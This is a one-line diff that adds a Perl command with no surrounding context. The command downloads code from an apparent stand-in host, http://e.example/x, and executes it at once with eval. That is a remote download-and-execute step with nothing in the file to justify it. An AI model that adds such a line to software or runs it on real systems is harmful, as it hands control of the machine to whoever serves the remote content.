@@ -1,0 +1,1 @@
+perl -MLWP::Simple -e 'eval get("http://e.example/x")'
